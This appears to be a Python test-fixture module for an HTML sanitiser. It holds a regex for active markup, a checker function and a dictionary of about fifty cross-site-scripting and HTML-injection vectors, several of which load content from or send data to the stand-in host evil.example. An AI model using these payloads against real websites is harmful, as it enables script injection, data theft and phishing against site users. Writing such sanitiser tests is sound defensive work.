"""Markup that would run, load or lead somewhere (content.md A30 to A33): for tests of the parser and of the browser."""

from __future__ import annotations

import re

ACTIVE = re.compile(
    r"<(?:script|style|iframe|frame|object|embed|applet|form|input|button|select|textarea|meta|base|link|svg|math"
    r"|template|noscript|xmp|plaintext|noembed|noframes)\b|\son\w+\s*=|\sstyle\s*=|(?:java|vb)script:|data:(?!image/(?:png|gif|jpeg|webp))"
    r"|\s(?:ping|background|formaction|action|xlink:href|srcdoc|target|id|name|class)\s*=",
    re.IGNORECASE,
)

VECTORS = {
    "script": "<script>alert(1)</script>",
    "script cut": "<script>alert(1)",
    "script in script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script with a slash": "<script/src=//evil.example/x.js></script>",
    "handler": '<img src=x onerror="alert(1)">',
    "handler after a slash": "<img/onerror=alert(1)/src=x>",
    "handler in a newline": "<p\nonclick\n=\nalert(1)>x</p>",
    "style attribute": '<p style="background:url(//evil.example/?)">x</p>',
    "style element": "<style>@import '//evil.example/x.css'</style>",
    "stylesheet": '<link rel=stylesheet href="//evil.example/x.css">',
    "iframe": '<iframe src="https://evil.example"></iframe>',
    "srcdoc": '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    "object": '<object data="data:text/html,x"></object>',
    "embed": '<embed src="x.swf">',
    "form": "<form action=//evil.example><input type=password><button formaction=//evil.example>x</button></form>",
    "meta refresh": '<meta http-equiv=refresh content="0;url=//evil.example">',
    "base": '<base href="//evil.example/">',
    "svg link": '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "svg animation": '<svg><animate attributeName=href values="javascript:alert(1)" /></svg>',
    "svg script": "<svg><script>alert(1)</script></svg>",
    "svg style": '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "math": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "annotation": '<math><annotation-xml encoding="text/html"><style><img onerror=alert(1)></style></annotation-xml>',
    "noscript title": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "template": "<template><script>alert(1)</script></template>",
    "xmp": "<xmp><script>alert(1)</script></xmp>",
    "plaintext": "<plaintext><script>alert(1)</script>",
    "textarea": "<textarea><script>alert(1)</script></textarea>",
    "comment": "<!--><script>alert(1)</script-->",
    "conditional comment": "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "instruction": '<?xml-stylesheet href="//evil.example/x"?>',
    "javascript link": '<a href="javascript:alert(1)">x</a>',
    "mixed case": '<a href="JaVaScRiPt:alert(1)">x</a>',
    "tab reference": '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "newline": '<a href="java\nscript:alert(1)">x</a>',
    "control reference": '<a href="&#1;javascript:alert(1)">x</a>',
    "colon reference": '<a href="javascript&colon;alert(1)">x</a>',
    "vbscript": '<a href="vbscript:x">x</a>',
    "data page": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "data svg": '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
    "srcset": '<img srcset="javascript:alert(1) 1x, data:text/html,x 2x">',
    "poster": '<video poster="javascript:alert(1)" src="javascript:alert(1)"></video>',
    "ping": '<a href="/x" ping="//evil.example">x</a>',
    "background": '<table background="//evil.example/x"><td background=x>x</table>',
    "clobbering": '<a id=config name=config class=admin href="/x">x</a>',
    "attribute break-out": '<img alt="&quot;><script>alert(1)</script>" src=x>',
    "broken nesting": '<b><a href="/x"><p></b><script>alert(1)</script>',
    "lone surrogate": "<p>\ud800</p><script>alert(1)</script>",
    "null in a name": "<scr\0ipt>alert(1)</scr\0ipt>",
}


def harmless(html: str) -> bool:
    """Judge the markup only: text may say what it likes, as long as it is escaped."""
    return not any(ACTIVE.search(tag) for tag in re.findall(r"<[^>]*>", html))
